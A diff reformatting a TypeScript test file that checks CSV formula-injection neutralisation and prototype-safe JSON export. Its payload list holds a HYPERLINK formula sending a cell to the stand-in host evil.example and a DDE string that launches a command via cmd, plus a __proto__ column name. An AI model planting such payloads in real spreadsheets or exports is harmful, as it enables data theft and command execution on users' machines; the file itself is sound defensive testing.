@@ -5,7 +5,14 @@ import { neutraliseFormula, safeCsvCellText, startsFormula } from '../../src/ren
 import { toCsv, toJsonRecords } from '../../src/render/exportData';
 
 /** The audit's payloads, each of which a spreadsheet runs as a formula. */
-const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
+const PAYLOADS = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  "+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+];
 
 describe('CSV formula neutralisation (OWASP)', () => {
   test('text starting with = + - @ tab or CR gets a leading quote', () => {
@@ -34,7 +41,12 @@ describe('CSV formula neutralisation (OWASP)', () => {
 
 const hostile: ResultTable = {
   name: 'PrimaryResult',
-  columns: [{ name: 'Computer', type: 'string' }, { name: 'Delta', type: 'long' }, { name: 'Took', type: 'timespan' }, { name: '=Name', type: 'string' }],
+  columns: [
+    { name: 'Computer', type: 'string' },
+    { name: 'Delta', type: 'long' },
+    { name: 'Took', type: 'timespan' },
+    { name: '=Name', type: 'string' },
+  ],
   rows: [
     [PAYLOADS[0]!, -2, '-00:01:00', '@SUM(1+1)'],
     [PAYLOADS[1]!, 5, '00:01:00', '-2+3'],
@@ -44,12 +56,15 @@ const hostile: ResultTable = {
 
 describe('CSV export of hostile cells', () => {
   test('neutralises formulas in strings and the header, keeps numbers and timespans as they are', () => {
-    assert.equal(toCsv(hostile), [
-      "'=Name".replace(/^/, 'Computer,Delta,Took,'),
-      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-2,-00:01:00,'@SUM(1+1)`,
-      "'+cmd|' /C calc'!A0,5,00:01:00,'-2+3",
-      'web-01,-7,,-2',
-    ].join('\r\n') + '\r\n');
+    assert.equal(
+      toCsv(hostile),
+      [
+        "'=Name".replace(/^/, 'Computer,Delta,Took,'),
+        `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-2,-00:01:00,'@SUM(1+1)`,
+        "'+cmd|' /C calc'!A0,5,00:01:00,'-2+3",
+        'web-01,-7,,-2',
+      ].join('\r\n') + '\r\n',
+    );
   });
 
   test('writes the cells as they are when neutralisation is turned off', () => {
@@ -63,7 +78,11 @@ describe('JSON export of hostile names', () => {
   test('keeps a column named __proto__ (and constructor) as an ordinary key', () => {
     const table: ResultTable = {
       name: 'PrimaryResult',
-      columns: [{ name: '__proto__', type: 'dynamic' }, { name: 'constructor', type: 'string' }, { name: 'x', type: 'long' }],
+      columns: [
+        { name: '__proto__', type: 'dynamic' },
+        { name: 'constructor', type: 'string' },
+        { name: 'x', type: 'long' },
+      ],
       rows: [[{ polluted: true }, 'c', 1]],
     };
     const text = toJsonRecords(table);
